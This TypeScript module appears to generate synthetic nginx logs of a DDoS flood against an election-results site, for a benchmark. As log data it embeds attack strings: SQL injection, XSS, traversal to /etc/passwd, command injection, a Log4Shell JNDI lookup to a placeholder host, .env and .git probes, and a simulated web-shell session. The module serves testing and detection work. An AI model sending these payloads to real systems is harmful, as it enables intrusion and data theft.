// Which requests make a flood? nginx lines of an hour as booters make them, from 50,000 addresses, with the noise that they bring along, voters, and one intrusion.
import { random } from '../bench/lines.ts'

export interface FloodLine {
  /** When the request was answered, milliseconds since 1970 UTC. */
  readonly at: number
  readonly text: string
}

export interface FloodShape {
  readonly from: number
  readonly events: number
  readonly durationMs: number
  readonly seed: number
  /** When the intruder sends the file, milliseconds after the beginning. */
  readonly intrusionAfterMs: number
}

/** Who breaks in; it takes part in nothing else. */
export const INTRUDER = '103.28.148.77'
const ADDRESSES = 50_000
/** Of a hundred addresses that take part, so many look for holes beside flooding. */
const PROBING = 8

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0',
]
const tools = [
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Go-http-client/1.1',
  'okhttp/4.12.0',
  'Mozilla/5.0 GoldenEye/2.1',
  'Apache-HttpClient/4.5.14 (Java/17)',
  'masscan/1.3',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
]
const pages = ['/', '/hasil/pilkada', '/berita/', '/peta/wilayah/', '/api/v1/tps?kode=', '/assets/app.js?v=']
/** Asked of pages that there are: the site answers as ever, or is overloaded, or its filter refuses. */
const injections = [
  "/berita?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
  '/cari?q=1%27%20AND%20SLEEP(5)--%20-',
  '/?id=1%20OR%201=1--',
  '/cari?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/unduh?file=../../../../etc/passwd',
  '/?x=$%7Bjndi:ldap://203.0.113.9/a%7D',
  '/berita?id=1;cat%20/etc/passwd',
]
/** Asked of what is not there. */
const missing = [
  '/index.php?cmd=cat%20/etc/passwd',
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/',
  '/backup.sql',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
  '/shell.php',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
  '/_ignition/execute-solution?x=O:8:%22stdClass%22:0:%7B%7D',
]
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const letters = 'abcdefghijklmnopqrstuvwxyz0123456789'

/** What the intruder does, seconds after the first step: a file is sent, and then it is talked to. */
const steps: readonly (readonly [number, string, number])[] = [
  [0, 'GET /lampiran/formulir', 200],
  [20, 'POST /lampiran/upload', 200],
  [35, 'GET /uploads/2024/logo-kpu.php?cmd=id', 200],
  [50, 'GET /uploads/2024/logo-kpu.php?cmd=whoami', 200],
  [90, 'GET /uploads/2024/logo-kpu.php?cmd=uname', 200],
  [150, 'GET /uploads/2024/logo-kpu.php?cmd=ls', 200],
]

/** The lines in order of time: the same for the same shape. Of a hundred requests 2 are voters'. */
export function* floodLines({ from, events, durationMs, seed, intrusionAfterMs }: FloodShape): Generator<FloodLine> {
  const next = random(seed)
  const below = (n: number): number => Math.floor(next() * n)
  const pick = <T>(list: readonly T[], otherwise: T): T => list[below(list.length)] ?? otherwise
  const word = (length: number): string => {
    let text = ''
    for (let n = 0; n < length; n += 1) text += letters[below(letters.length)]
    return text
  }
  const addresses = Array.from(
    { length: ADDRESSES },
    () => `${1 + below(222)}.${below(256)}.${below(256)}.${1 + below(254)}`,
  ).filter((address) => address !== INTRUDER)
  const voters = Array.from({ length: 4_000 }, () => `36.${64 + below(16)}.${below(256)}.${1 + below(254)}`)
  const clock = createClock()
  const line = (at: number, address: string, request: string, status: number, agent: string): FloodLine => ({
    at,
    text: `${address} - - [${clock(at)}] "${request} HTTP/1.1" ${status} ${below(40_000)} "-" "${agent}"`,
  })
  const intrusion = steps.map(([seconds, request, status]) =>
    line(from + intrusionAfterMs + seconds * 1000, INTRUDER, request, status, browsers[3] ?? ''),
  )
  for (let n = 0; n < events; n += 1) {
    const at = from + Math.floor((n / events) * durationMs)
    for (let step = intrusion[0]; step !== undefined && step.at <= at; step = intrusion[0]) {
      yield step
      intrusion.shift()
    }
    if (next() < 0.02) {
      yield line(at, pick(voters, ''), `GET ${pick(pages, '/')}${below(900)}`, 200, pick(browsers, ''))
      continue
    }
    const who = below(addresses.length)
    const address = addresses[who] ?? ''
    // One address is one program: it keeps its agent.
    const agent = who % 5 < 2 ? (tools[who % tools.length] ?? '') : (browsers[who % browsers.length] ?? '')
    const what = next()
    if (who % 100 < PROBING && what < 0.05)
      yield line(at, address, `GET ${pick(injections, '/')}`, pick([200, 200, 403, 503], 403), agent)
    else if (who % 100 < PROBING && what < 0.12)
      yield line(at, address, `GET ${pick(missing, '/')}`, pick([404, 404, 403, 503], 404), agent)
    else if (what < 0.45) yield line(at, address, `GET /?${word(4)}=${word(8)}`, pick([200, 503, 503, 502], 503), agent)
    else if (what < 0.6) yield line(at, address, `GET /cari?q=${word(7)}`, pick([200, 503, 504, 429], 503), agent)
    else if (what < 0.75) yield line(at, address, 'POST /login', pick([200, 401, 403, 503], 503), agent)
    else if (what < 0.8) yield line(at, address, `GET /${word(6)}`, pick([404, 404, 503], 404), agent)
    else
      yield line(at, address, `GET ${pick(pages, '/')}${below(100_000)}`, pick([200, 200, 304, 503, 499], 200), agent)
  }
  yield* intrusion
}

/** Writes times as nginx does; the second is written once. */
function createClock(): (ms: number) => string {
  let second = Number.NaN
  let text = ''
  return (ms) => {
    const now = Math.floor(ms / 1000)
    if (now !== second) {
      second = now
      const [year = '', month = '', day = ''] = new Date(ms).toISOString().slice(0, 10).split('-')
      text = `${day}/${months[Number(month) - 1]}/${year}:${new Date(ms).toISOString().slice(11, 19)} +0000`
    }
    return text
  }
}
